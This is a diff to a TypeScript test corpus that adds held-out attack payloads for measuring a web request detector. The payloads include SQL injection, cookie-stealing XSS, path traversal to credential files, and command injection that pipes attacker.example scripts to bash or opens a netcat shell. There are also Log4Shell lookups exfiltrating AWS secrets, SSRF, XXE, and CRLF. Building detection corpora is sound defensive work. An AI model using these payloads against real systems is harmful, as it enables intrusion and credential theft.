@@ -963,6 +963,94 @@ p('/.vscode/sftp.json', 'editor credentials probe');
 h('x-scanner', 'Burp', 'X-Scanner Burp');
 json('{"avatar":"https://a8f3k1.oast.site/x.png"}', 'oast.site', '/api/profile', 'PUT');
 
+// =============================================================================================
+// Round 3: held out -- written and measured once (62 of 63 found before any change; the miss,
+// CASE WHEN in a sort parameter, led to a new rule). Payload shapes from PortSwigger labs.
+
+category = 'sqli';
+q('id', "1' and (select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x from information_schema.tables group by x)a)-- -", 'floor(rand) error-based', '/item');
+q('user', "admin' or 1=1 limit 1;#", 'limit and hash comment', '/login');
+q('id', '1 AND 1=(SELECT COUNT(*) FROM tablenames); --', 'count subquery', '/item');
+q('category', "Gifts' OR 1=1--", 'PortSwigger hidden data', '/filter');
+ck('TrackingId', "xyz' AND (SELECT 'a' FROM users LIMIT 1)='a", 'blind subquery in tracking cookie', '/');
+ck('TrackingId', "x'||pg_sleep(10)--", 'PostgreSQL concat sleep in cookie', '/');
+q('id', '1 AND 2>1', 'greater-than condition', '/item');
+q('q', "'; DECLARE @q varchar(99);SET @q='\\\\attacker.example\\x'; exec master.dbo.xp_dirtree @q;--", 'MSSQL xp_dirtree exfiltration');
+q('id', '-1 union/**/select/**/1,2,3', 'comments as spaces', '/item');
+json('{"email":"a@b.c\' UNION SELECT NULL,NULL--"}', 'union in JSON email', '/api/users/lookup');
+q('id', "1' AND ASCII(SUBSTR((SELECT password FROM users WHERE username='administrator'),1,1))>'m", 'blind character comparison', '/item');
+q('sort', '(CASE WHEN (1=1) THEN name ELSE price END)', 'conditional sort column', '/products');
+
+category = 'xss';
+q('q', '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>X</text></a>', 'svg animate values');
+q('q', '<a href="javascript:void(0)" onmouseover=alert(1)>x</a>', 'void link with handler');
+q('q', '<img src=x onerror=this.src="http://attacker.example/?c="+document.cookie>', 'cookie exfiltration via src');
+q('search', '"><img src=1 onerror=print()>', 'print() probe', '/blog');
+q('q', '</script><img/src/onerror=alert(1)>', 'slash-separated attributes');
+q('q', '<iframe/src="data:text/html,<svg onload=alert(1)>">', 'iframe data URL');
+q('q', '<svg onload=setTimeout`alert\\x281\\x29`>', 'setTimeout template');
+json('{"comment":"<p style=\\"x\\" onclick=\\"fetch(`//attacker.example?${document.cookie}`)\\">hi</p>"}', 'stored handler with fetch', '/api/comments');
+q('q', 'javascript:eval(atob("YWxlcnQoMSk="))', 'base64 eval URL');
+q('callback', 'alert(document.domain)//', 'JSONP callback', '/api/jsonp');
+
+category = 'path_traversal';
+q('file', '..%2F..%2F..%2F..%2F..%2Fetc%2Fgroup', 'double-encoded group', '/download');
+q('image', '....//....//....//etc/hosts', 'stripped-sequence bypass', '/image');
+q('filename', '../../../../../../../../../../boot.ini', 'boot.ini', '/download');
+p('/static/%252e%252e/%252e%252e/%252e%252e/etc/passwd', 'double-encoded dots in path');
+q('f', 'file:///c:/windows/win.ini', 'file URL to win.ini', '/preview');
+q('include', '/var/www/../../etc/shadow', 'absolute prefix then traversal', '/page');
+json('{"template":"..\\\\..\\\\..\\\\..\\\\..\\\\Windows\\\\System32\\\\config\\\\SAM"}', 'SAM via template', '/api/render');
+
+category = 'cmdi';
+q('ip', '8.8.8.8|curl attacker.example/s.sh|bash', 'pipe to bash', '/ping');
+q('ip', '127.0.0.1&&cat /etc/passwd', 'glued and', '/ping');
+q('name', 'x;wget -qO- attacker.example|sh', 'wget pipe sh', '/hello');
+q('file', 'a.txt;id>/tmp/x', 'redirected output', '/view');
+q('host', '$(ping -c 15 attacker.example)', 'ping in substitution', '/ping');
+json('{"target":"`nc attacker.example 9001 -e sh`"}', 'netcat in backticks', '/api/scan');
+q('q', '|| uname -a #', 'uname with comment', '/tools');
+h('user-agent', '() { ignored; }; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd', 'Shellshock with a word body', '/cgi-bin/status');
+
+category = 'ssrf';
+q('url', 'http://0x7f.0.0.1:8080/admin', 'hex first octet', '/fetch');
+q('url', 'http://[::ffff:7f00:1]/', 'hex IPv4-mapped', '/fetch');
+q('url', 'http://169.254.169.254/computeMetadata/v1/', 'metadata path', '/fetch');
+json('{"webhook":"http://localhost:9200/_search"}', 'Elasticsearch via webhook', '/api/webhooks');
+q('image_url', 'https://192.168.100.1/secret.png', 'private image URL', '/api/thumbnail');
+q('u', 'gopher://127.0.0.1:3306/_%a3%00%00%01', 'gopher MySQL', '/fetch');
+q('url', 'http://127.0.0.1%2523@example.com/', 'encoded fragment confusion', '/fetch');
+
+category = 'jndi';
+h('x-api-version', '${${lower:J}ndi:${lower:L}dap://attacker.example/a}', 'lower on capitals');
+h('referer', '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}', 'secret exfiltration');
+json('{"name":"${${upper:j}ndi:dns://attacker.example}"}', 'upper j in JSON', '/api/profile', 'PUT');
+
+category = 'nosqli';
+json('{"username":"admin","password":{"$regex":"^a"}}', 'regex password probe', '/api/login');
+qs({ 'user[$eq]': 'admin', 'pass[$exists]': 'true' }, 'eq and exists');
+q('q', '{"$where": "this.credits == this.debits"}', '$where JSON in query', '/api/items');
+json('{"filter":{"$or":[{"a":1},{"b":{"$gt":0}}]}}', 'or with gt', '/api/items/find');
+
+category = 'proto_pollution';
+qs({ '__proto__[polluted]': 'true' }, 'polluted probe', '/');
+json('{"user":{"__proto__":{"isAdmin":true}}}', 'nested isAdmin', '/api/profile', 'PUT');
+qs({ 'x.__proto__.y': '1' }, 'dotted nested', '/api/settings');
+
+category = 'xxe';
+xml('<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % sp SYSTEM "http://attacker.example/sp.dtd">\n%sp;\n%param1;\n]>\n<r>&exfil;</r>', 'out-of-band with line breaks');
+xml('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ENTITY example SYSTEM "/etc/passwd"> ]><stockCheck><productId>&example;</productId></stockCheck>', 'PortSwigger stock check', '/product/stock');
+
+category = 'crlf';
+q('next', '%0d%0aSet-Cookie:admin=true', 'double-encoded set-cookie', '/login');
+p('/en%0D%0ALocation:%20https://attacker.example/', 'location after language segment');
+q('lang', 'fr\r\nX-Frame-Options: ALLOWALL', 'frame options override', '/');
+
+category = 'scanner';
+h('user-agent', 'Mozilla/5.0 (compatible; Nuclei)', 'Nuclei compatible');
+h('user-agent', 'sqlmap/1.6.12#stable (https://sqlmap.org)', 'sqlmap 1.6');
+p('/.git/logs/HEAD', 'git logs probe');
+
 export function attackEntries(): CorpusEntry[] {
   return out;
 }
